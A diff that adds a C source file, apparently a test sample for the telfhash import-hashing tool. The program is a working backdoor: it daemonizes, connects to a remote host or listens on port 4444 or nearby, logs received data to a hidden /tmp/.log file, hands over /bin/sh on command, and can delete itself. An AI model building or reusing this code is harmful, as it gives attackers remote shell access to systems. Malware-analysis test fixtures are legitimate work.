@@ -0,0 +1,64 @@
+/* gcc -O0 -o gcc-amd64-linux-imports imports.c
+ * A network program importing enough libc functions for telfhash. */
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+int main(int argc, char **argv, char **envp)
+{
+	struct sockaddr_in addr = {0};
+	char buf[256];
+	int s, c, fd;
+
+	signal(SIGCHLD, SIG_IGN);
+	if (fork() != 0)
+		exit(0);
+	setsid();
+	chdir("/");
+	umask(0);
+	srand(time(NULL) ^ getpid());
+	addr.sin_family = AF_INET;
+	addr.sin_port = htons(4444 + rand() % 16);
+	addr.sin_addr.s_addr = inet_addr(getenv("HOST") ? getenv("HOST") : "0.0.0.0");
+	s = socket(AF_INET, SOCK_STREAM, 0);
+	if (argc > 1) {
+		if (connect(s, (struct sockaddr *)&addr, sizeof(addr)) != 0)
+			return 1;
+		c = s;
+	} else {
+		bind(s, (struct sockaddr *)&addr, sizeof(addr));
+		listen(s, 1);
+		c = accept(s, NULL, NULL);
+	}
+	while (recv(c, buf, sizeof(buf) - 1, 0) > 0) {
+		fd = open("/tmp/.log", O_WRONLY | O_CREAT | O_APPEND, 0600);
+		write(fd, buf, sizeof(buf));
+		close(fd);
+		if (buf[0] == 'x') {
+			dup2(c, 0);
+			dup2(c, 1);
+			execve("/bin/sh", argv, envp);
+		}
+		if (buf[0] == 'k')
+			kill(getppid(), SIGKILL);
+		if (buf[0] == 'u')
+			unlink(argv[0]);
+		if (buf[0] == 's')
+			sleep(atoi(buf + 1));
+		send(c, "ok\n", 3, 0);
+	}
+	FILE *f = fopen("/proc/self/status", "r");
+	if (f != NULL) {
+		while (fgets(buf, sizeof(buf), f) != NULL)
+			fputs(buf, stderr);
+		fclose(f);
+	}
+	return 0;
+}